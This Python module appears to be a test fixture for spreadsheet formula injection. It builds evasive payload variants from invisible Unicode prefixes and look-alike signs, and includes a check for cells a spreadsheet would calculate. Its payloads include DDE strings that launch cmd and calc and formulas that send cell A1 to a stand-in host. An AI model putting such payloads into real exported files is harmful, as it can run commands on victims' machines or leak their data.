"""Texts that a spreadsheet might calculate, and a check for such cells, written independently of each other."""

import re
import unicodedata
from itertools import product

SIGNS = "=+-@|%＝＋－＠﹦﹢﹣﹫−⁼⁺⁻％｜"
DEEDS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example/?"&A1,"look")', "DDE(\"cmd\";\"/C calc\";\"x\")",
    "SUM(1+1)*cmd|' /C calc'!A0", "2+3+cmd|'/C notepad'!'A1'", 'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A", 'WEBSERVICE("http://x.example/"&A1)', "MSEXCEL|'\\..\\calc'!A", "A1",
)  # fmt: skip
LEADS = (
    "", " ", "   ", "\t", "\r", "\n", "\r\n", "\x00", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\u00a0", "\u00ad",
    "\u1680", "\u180e", "\u2003", "\u2007", "\u200b", "\u200d", "\u200e", "\u2028", "\u2029", "\u202e", "\u202f",
    "\u205f", "\u2060", "\u2066", "\u3000", "\ufeff", " \t ", "\ufeff \u200b", "\u3164",
)  # fmt: skip
WITHIN = (
    "x,", "x;", "x\t", "x\n", "x\r", "x\r\n", 'x"', '"', '",', '";', "x, ", "x; ", "x\n ", 'x"\n', 'x",\u200b', "x\x00",
    "x;;", ",;", "x\u2028", ";\n", '"";', "x;\ufeff",
)  # fmt: skip
#: Nothing here may be changed but for a quote in front of what would calculate.
PLAIN = ("a=b", "deal:1:settle", "x-y", "it's", "<b>&amp;</b>", "_x003D_1+1", "]]>", "नमस्ते", "🂡", 'say "no"', "a, b; c")
PAYLOADS = sorted(
    {lead + sign + DEEDS[(at + len(lead)) % len(DEEDS)] for at, (lead, sign) in enumerate(product(LEADS, SIGNS))}
    | {before + sign + DEEDS[at % len(DEEDS)] for at, (before, sign) in enumerate(product(WITHIN, SIGNS))}
    | {"=" + deed for deed in DEEDS}
)


def calculates(cell: str) -> bool:
    """Return whether a spreadsheet might take the cell for a formula: its visible part begins with a sign."""
    visible = cell
    while visible and (unicodedata.category(visible[0])[0] in "ZC" or visible[0] == "\u3164"):
        visible = visible[1:]
    begins = unicodedata.normalize("NFKC", visible[:1]).replace("\u2212", "-")[:1]
    return begins != "" and begins in "=+-@|%" and not re.fullmatch(r"-?[0-9]+", cell)
